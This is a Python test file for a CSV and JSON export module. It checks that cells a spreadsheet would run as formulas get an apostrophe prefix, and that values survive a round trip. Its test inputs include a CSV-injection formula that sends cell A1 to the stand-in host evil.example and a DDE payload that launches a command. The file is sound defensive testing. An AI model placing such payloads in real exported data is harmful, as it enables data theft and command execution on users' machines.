"""Exported text: harmless in spreadsheets, and parsed back to the same values."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runtime.core.delimited_text import FORMULA_STARTS, csv_lines, json_line

VALUES = st.none() | st.booleans() | st.integers() | st.text()


def read_back(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode(), newline=""), strict=True))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example?x="&A1)',
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",  # noqa: RUF001 - the full-width sign is what is tried
        "=",
        "-",
    ],
)
def test_a_text_that_a_spreadsheet_would_execute_gets_an_apostrophe(formula: str) -> None:
    ((cell,),) = read_back(csv_lines([[formula]]))
    assert cell == "'" + formula


@pytest.mark.parametrize("number", [-5, 0, 10**15, "-5", "+5", "-5.25"])
def test_numbers_stay_numbers(number: int | str) -> None:
    assert csv_lines([[number]]) == f"{number}\r\n".encode()


@pytest.mark.parametrize("text", ["-5\n", "--5", "-5=1", "-5."])
def test_a_text_that_only_begins_like_a_number_is_text(text: str) -> None:
    ((cell,),) = read_back(csv_lines([[text]]))
    assert cell == "'" + text


def test_quotes_commas_and_line_ends_are_quoted_as_in_rfc_4180() -> None:
    assert csv_lines([['a,"b"', "c\r\nd", None, True, {"k": [1, "é"]}]]) == (
        '"a,""b""","c\r\nd",,true,"{""k"":[1,""é""]}"\r\n'.encode()
    )


@given(st.lists(st.lists(VALUES, min_size=2, max_size=4), max_size=4))
def test_every_cell_survives_and_none_is_a_formula(rows: list[list[Any]]) -> None:
    back = read_back(csv_lines(rows))
    assert len(back) == len(rows)
    for row, cells in zip(rows, back, strict=True):
        for value, cell in zip(row, cells, strict=True):
            if isinstance(value, str):
                assert cell in (value, "'" + value)
                assert (
                    cell[:1] not in FORMULA_STARTS or cell.lstrip("+-").replace(".", "").isdigit()
                )
            elif isinstance(value, int) and not isinstance(value, bool):
                assert int(cell) == value


@given(st.dictionaries(st.text(), VALUES))
def test_a_line_of_json_is_exact(row: dict[str, Any]) -> None:
    line = json_line(row)
    assert line.endswith(b"\n")
    assert line.count(b"\n") == 1
    assert json.loads(line) == row
